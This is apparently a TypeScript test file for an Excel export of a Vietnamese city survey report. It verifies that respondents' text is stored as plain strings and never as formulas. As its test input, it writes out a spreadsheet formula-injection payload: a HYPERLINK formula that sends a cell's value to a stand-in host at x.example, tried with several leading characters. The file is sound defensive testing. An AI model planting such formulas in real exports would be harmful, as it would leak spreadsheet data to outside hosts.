import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { CityReport, ReportFigures } from '#domain/survey/city-report.ts'
import { reportWorkbook } from './workbook.ts'

const FIGURES: ReportFigures = { responses: 30, satisfied: 0.5, low: 0.33, high: 0.67, standing: 'full' }

/** A report in which everything that somebody wrote is `written`. */
function reportSaying(written: string, breaks?: CityReport['breaks']): CityReport {
  const words = { vi: written, en: written }
  const share = { satisfied: null, low: null, high: null }
  return {
    format: 'an-tam-city-report/1',
    period: { from: '2026-01', to: '2026-12', through: '2026-12-31' } as CityReport['period'],
    scope: 'all',
    total: FIGURES,
    groups: [{ group: 'districts', ...FIGURES }],
    agencies: [
      {
        ...FIGURES,
        ...words,
        id: written,
        kind: 'district',
        group: 'districts',
        band: null,
        missing: 0,
        former: false,
      },
    ],
    questions: [
      {
        ...{ version: 1, key: written, kind: 'single', required: true, respondents: 30, ...words, ...share },
        options: [{ code: written, count: 30, ...words }],
        agencies: [{ id: written, respondents: 30, counts: [30] }],
      },
    ],
    trend: [],
    ...(breaks && { breaks }),
    comments: { agencies: [{ id: written, comments: 10 }], themes: [] },
    suggestions: {
      received: [],
      answered: [
        {
          ...{ state: 'declined', on: '2026-11-24', people: 1 },
          ...{ summaryVi: written, summaryEn: null, answerVi: written, answerEn: null },
        },
      ],
    },
    exclusions: [],
  }
}

async function read(report: CityReport) {
  const madeAt = new Date('2026-11-24T03:00:00Z')
  const parts = unzipSync(await reportWorkbook({ report, sha256: 'a'.repeat(64), madeAt, locale: 'vi' }))
  const text = (name: string) => strFromU8(parts[name] ?? new Uint8Array())
  const sheets = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/sheet'))
  const plain = (xml: string) =>
    xml.replace(/&(lt|gt|quot|apos|amp);/g, (_, name: keyof typeof ENTITIES) => ENTITIES[name])
  const strings = [...text('xl/sharedStrings.xml').matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)]
  return {
    xml: sheets.map(text),
    strings: strings.map(([, value = '']) => plain(value)),
    names: text('xl/workbook.xml'),
  }
}
const ENTITIES = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as const

/** A cell as it is written: its type, and whether it holds anything but a value. */
const cells = (xml: string) =>
  [...xml.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inner = '']) => ({
    type: /t="(\w+)"/.exec(attributes)?.[1] ?? 'n',
    inner,
  }))

describe('the workbook of a report', () => {
  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '|', "'="])(
    'keeps what begins with %j a string in every sheet, and never a formula',
    async (start) => {
      const written = `${start}HYPERLINK("http://x.example/"&A1,"<b>")`
      const { xml, strings } = await read(reportSaying(written))
      // Agency, its group's question, its option, comments and the suggestion with its answer.
      const seen = strings.filter((value) => value.includes('HYPERLINK'))
      expect(seen.length).toBeGreaterThan(0)
      for (const value of seen) expect(value.replace(/\r\n?/g, '\n')).toBe(written.replace(/\r\n?/g, '\n'))
      for (const sheet of xml) {
        expect(sheet).not.toMatch(/<(\w+:)?(f|hyperlink)\b/)
        for (const { type, inner } of cells(sheet)) {
          // An index into the strings, or a number: no text stands in a cell itself.
          expect(['s', 'n']).toContain(type)
          expect(inner).toMatch(/^(<v>-?[\d.eE+-]+<\/v>)?$/)
        }
      }
    },
  )

  it('does so whatever is written', async () => {
    const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 })
    await fc.assert(
      fc.asyncProperty(text, async (written) => {
        const { xml } = await read(reportSaying(written))
        for (const sheet of xml) {
          expect(sheet).not.toMatch(/<(\w+:)?f\b/)
          expect(cells(sheet).every(({ inner }) => /^(<v>-?[\d.eE+-]+<\/v>)?$/.test(inner))).toBe(true)
        }
      }),
      { numRuns: 20, examples: [['valueOf'], ['__proto__'], ['constructor']] },
    )
  })

  it('has a sheet of reorganisations with their legal basis where there were any', async () => {
    const named = (id: string) => ({ id, vi: `Quận ${id}`, en: `District ${id}` })
    const basis = 'Nghị quyết 1685/NQ-UBTVQH15'
    const some = [{ on: '2026-07-01', kind: 'merge', basis, from: named('1'), to: named('2') }] as const
    const [without, with_] = [await read(reportSaying('x')), await read(reportSaying('x', some))]
    expect(with_.xml).toHaveLength(without.xml.length + 1)
    expect(without.names).not.toContain('Sắp xếp lại')
    expect(with_.names).toContain('Sắp xếp lại')
    for (const value of [basis, 'sáp nhập', 'Quận 1', 'Quận 2', '01/07/2026'])
      expect(with_.strings).toContain(value)
  })
})
